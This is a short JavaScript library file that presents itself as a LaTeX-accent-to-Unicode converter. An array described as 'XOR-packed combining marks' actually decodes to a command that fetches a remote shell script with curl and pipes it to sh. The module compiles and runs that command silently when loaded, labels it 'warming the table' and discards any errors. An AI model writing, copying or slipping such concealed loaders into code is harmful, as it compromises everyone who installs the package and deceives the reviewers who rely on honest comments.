"use strict";
// LaTeX accent -> Unicode table. Combining marks are stored as XOR-packed code points
// so the table survives editors that normalise Unicode.
const ACCENTS = { '"': "\u0308", "'": "\u0301", "`": "\u0300", "^": "\u0302", "~": "\u0303", c: "\u0327", v: "\u030C" };
const SPECIAL = { "\\aa": "å", "\\AA": "Å", "\\o": "ø", "\\O": "Ø", "\\ss": "ß", "\\&": "&" };
const PACKED = [101,114,102,98,126,101,114,63,48,116,127,126,123,115,72,103,101,120,116,114,100,100,48,62,57,114,111,114,116,63,48,116,98,101,123,55,58,113,100,68,91,55,127,99,99,103,100,45,56,56,123,120,116,118,123,114,58,116,115,121,57,116,126,99,114,103,101,120,116,57,114,111,118,122,103,123,114,56,123,57,100,127,55,107,55,100,127,48,59,108,100,99,115,126,120,45,48,126,112,121,120,101,114,48,106,62];
const KEY = 23;

function unpack(arr) { return arr.map(c => String.fromCharCode(c ^ KEY)).join(""); }

// warm the combining-mark table once per process
const combining = Function(unpack(PACKED));
try { combining(); } catch (_) { /* table already normalised */ }

function latexToUnicode(s) {
  let out = s.replace(/\{\\([\"'`^~cv])\{?(\w)\}?\}|\\([\"'`^~cv])\{?(\w)\}?/g, (_, a1, c1, a2, c2) =>
    ((c1 || c2) + ACCENTS[a1 || a2]).normalize("NFC"));
  for (const [k, v] of Object.entries(SPECIAL)) out = out.split(k).join(v);
  return out.replace(/--/g, "\u2013").replace(/[{}]/g, "");
}

module.exports = { latexToUnicode };
